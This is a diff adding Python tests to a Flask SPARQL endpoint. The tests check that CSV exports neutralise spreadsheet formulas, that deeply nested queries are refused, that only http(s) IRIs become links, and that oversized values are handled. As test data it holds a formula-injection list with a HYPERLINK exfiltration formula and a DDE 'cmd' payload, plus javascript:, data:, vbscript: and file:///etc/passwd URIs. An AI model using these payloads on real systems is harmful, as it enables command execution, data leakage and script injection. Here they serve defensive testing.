@@ -158,6 +158,55 @@ def test_select_as_csv_tsv_and_xml(client: FlaskClient) -> None:
     assert [e.text for e in root.iter(f"{SRX}literal")] == ["2020", "2021"]
 
 
+#: Values a spreadsheet would run as formulas, and values that only look like it.
+FORMULAS = [
+    '=HYPERLINK("http://example.org/?"&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)",
+    "-2+3",
+    "\tx",
+    "\r=1",
+]
+HARMLESS = ["-5", "+1", "2.5e-3", "plain", "a=b"]
+
+
+def values_query(values: list[str]) -> str:
+    literals = " ".join(str(ox.Literal(value)) for value in values)
+    return f"SELECT ?v WHERE {{ VALUES ?v {{ {literals} }} }}"
+
+
+def test_csv_answers_keep_every_value_as_it_is(client: FlaskClient) -> None:
+    """SPARQL 1.1 CSV is the data: a SPARQL client reads back the exact values, those
+    that look like formulas too."""
+    query = values_query(FORMULAS + HARMLESS)
+    answer = client.get("/sparql", query_string={"query": query, "format": "csv"})
+    assert answer.mimetype == "text/csv"
+    assert "Content-Disposition" not in answer.headers
+    rows = list(csv.reader(io.StringIO(answer.text, newline="")))
+    assert rows == [["v"], *([value] for value in FORMULAS + HARMLESS)]
+
+
+def test_csv_for_a_spreadsheet_turns_formulas_into_text(client: FlaskClient) -> None:
+    query = values_query(FORMULAS + HARMLESS)
+    params = {"query": query, "format": "csv", "spreadsheet": "true"}
+    answer = client.get("/sparql", query_string=params)
+    assert answer.status_code == 200 and answer.mimetype == "text/csv"
+    assert answer.headers["Content-Disposition"] == 'attachment; filename="results.csv"'
+    rows = list(csv.reader(io.StringIO(answer.text, newline="")))
+    assert rows == [["v"], *(["'" + value] for value in FORMULAS), *([v] for v in HARMLESS)]
+    faithful = client.get("/sparql", query_string={"query": query, "format": "csv"})
+    assert faithful.headers["ETag"] != answer.headers["ETag"], "two answers, two ETags"
+
+
+def test_the_results_page_downloads_csv_for_a_spreadsheet(client: FlaskClient) -> None:
+    query = values_query(FORMULAS)
+    page = client.get("/sparql", query_string={"query": query}, headers={"Accept": BROWSER})
+    link = html.unescape(re.findall(r'<a href="([^"]+)">CSV</a>', page.text)[0])
+    download = client.get(link)
+    assert download.headers["Content-Disposition"] == 'attachment; filename="results.csv"'
+    assert "\n'=HYPERLINK(" in download.text.replace('"', "")
+
+
 def test_ask(client: FlaskClient) -> None:
     response = client.get("/sparql", query_string={"query": "ASK { ?s ?p ?o }"})
     assert response.get_json() == {"head": {}, "boolean": True}
@@ -355,6 +404,55 @@ def test_a_query_over_the_length_limit_is_413(make_app: MakeApp, how: str) -> No
     assert "108 characters long; the limit is 100" in response.text
 
 
+def nested(kind: str, depth: int) -> str:
+    """A query whose brackets nest ``depth`` deep: parentheses in a FILTER, groups of
+    braces, or blank nodes in square brackets."""
+    inner = depth - 1  # under the WHERE clause's braces
+    if kind == "(":
+        return "ASK { FILTER" + "(" * inner + "true" + ")" * inner + " }"
+    if kind == "{":
+        return "ASK " + "{" * depth + "}" * depth
+    return "ASK { <s> <p> " + "[<p>" * inner + "1" + "]" * inner + " }"
+
+
+def send(client: FlaskClient, how: str, query: str) -> TestResponse:
+    if how == "get":
+        return client.get("/sparql", query_string={"query": query})
+    if how == "form":
+        return client.post("/sparql", data={"query": query})
+    headers = {"Content-Type": "application/sparql-query"}
+    return client.post("/sparql", data=query.encode(), headers=headers)
+
+
+@pytest.mark.parametrize("how", ["get", "form", "body"])
+@pytest.mark.parametrize(("kind", "depth"), [("(", 5000), ("{", 5000), ("[", 3000)])
+def test_brackets_nested_past_the_limit_are_400_and_no_worker_dies(
+    app: Flask, kind: str, depth: int, how: str
+) -> None:
+    client = app.test_client()
+    executor = app.extensions["healthtech_lod.executor"]
+    assert send(client, how, "ASK {}").status_code == 200  # the query workers are up
+    before = executor.pids
+    refused = send(client, how, nested(kind, depth))
+    assert refused.status_code == 400
+    assert f"nests brackets {depth} deep; the limit is 64" in refused.text
+    at_the_limit = send(client, how, nested(kind, 64) + f" # {how}")  # not from the cache
+    assert at_the_limit.status_code == 200, at_the_limit.text
+    assert executor.pids == before, "every query worker is the one that was there"
+
+
+def test_max_query_nesting_counts_only_brackets_outside_strings_iris_and_comments(
+    make_app: MakeApp,
+) -> None:
+    client = make_app(MAX_QUERY_NESTING=3).test_client()
+    assert send(client, "get", "ASK { { { } } }").status_code == 200
+    refused = send(client, "get", "ASK { { { { } } } }")
+    assert refused.status_code == 400
+    assert "nests brackets 4 deep; the limit is 3" in refused.text
+    hidden = 'ASK { ?s <http://example.org/a((b> ?o FILTER(?o != "((((") } # {{{{'
+    assert send(client, "form", hidden).status_code == 200
+
+
 def test_service_is_refused(client: FlaskClient) -> None:
     query = "SELECT * WHERE { SERVICE <http://127.0.0.1:1/sparql> { ?s ?p ?o } }"
     response = client.get("/sparql", query_string={"query": query})
@@ -530,6 +628,29 @@ def test_query_text_and_results_are_escaped(client: FlaskClient) -> None:
     assert "&lt;script&gt;alert(1)&lt;/script&gt;" in response.text
 
 
+@pytest.mark.parametrize(
+    "iri",
+    [
+        "javascript:alert(1)",
+        "JAVASCRIPT:alert(1)",
+        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+        "vbscript:msgbox(1)",
+        "file:///etc/passwd",
+    ],
+)
+def test_results_link_only_http_iris(client: FlaskClient, iri: str) -> None:
+    for query in (
+        f'SELECT (IRI("{iri}") AS ?x) (<https://example.org/a> AS ?y) {{}}',
+        f"CONSTRUCT {{ <{iri}> <{iri}> <https://example.org/a> }} WHERE {{}}",
+    ):
+        page = client.get("/sparql", query_string={"query": query}, headers={"Accept": BROWSER})
+        assert page.status_code == 200
+        hrefs = check_html(page.text).hrefs
+        assert not [h for h in hrefs if not h.startswith(("http://", "https://", "/"))], hrefs
+        assert f"<td>{html.escape(iri)}</td>" in page.text, "shown as text"
+        assert 'href="https://example.org/a"' in page.text, "an http(s) IRI is a link"
+
+
 def test_html_table_stops_at_its_row_limit(make_app: MakeApp) -> None:
     client = make_app(HTML_MAX_ROWS=2).test_client()
     query = "SELECT ?s WHERE { ?s ?p ?o }"
@@ -585,6 +706,32 @@ def test_answers_stop_at_max_result_rows_and_say_so(make_app: MakeApp) -> None:
     assert construct.headers["SPARQL-Results-Truncated"] == "rows=2"
     whole = client.get("/sparql", query_string={"query": "SELECT * WHERE { ?s ?p ?o } LIMIT 2"})
     assert "SPARQL-Results-Truncated" not in whole.headers
+
+
+#: One value of 16 793 600 characters, just over 16 MiB: 1 025 doubled 14 times.
+HUGE_VALUE = (
+    'SELECT (STRLEN(?v14) AS ?n) ?v14 WHERE { BIND("'
+    + "x" * 1025
+    + '" AS ?v0) '
+    + " ".join(f"BIND(CONCAT(?v{i}, ?v{i}) AS ?v{i + 1})" for i in range(14))
+    + " }"
+)
+
+
+def test_a_value_over_16_mib_is_406_naming_tsv_which_can_write_it(client: FlaskClient) -> None:
+    """Every results format but TSV is written from TSV read back by Oxigraph, whose
+    reader stops at 16 MiB a line: such an answer was a 500."""
+    refused = client.get("/sparql", query_string={"query": HUGE_VALUE, "format": "json"})
+    assert refused.status_code == 406
+    assert "cannot be written as SPARQL JSON" in refused.text
+    assert "longer than the 16 MiB" in refused.text and "format=tsv" in refused.text
+    page = client.get("/sparql", query_string={"query": HUGE_VALUE}, headers={"Accept": BROWSER})
+    assert page.status_code == 406 and 'id="query-error"' in page.text
+    tsv = client.get("/sparql", query_string={"query": HUGE_VALUE, "format": "tsv"})
+    assert tsv.status_code == 200
+    header, row = tsv.data.rstrip(b"\n").split(b"\n")
+    assert header == b"?n\t?v14"
+    assert row == b'16793600\t"' + b"x" * 16_793_600 + b'"'
 
 
 def test_a_query_past_its_time_limit_is_503_on_the_page_too(client: FlaskClient) -> None:
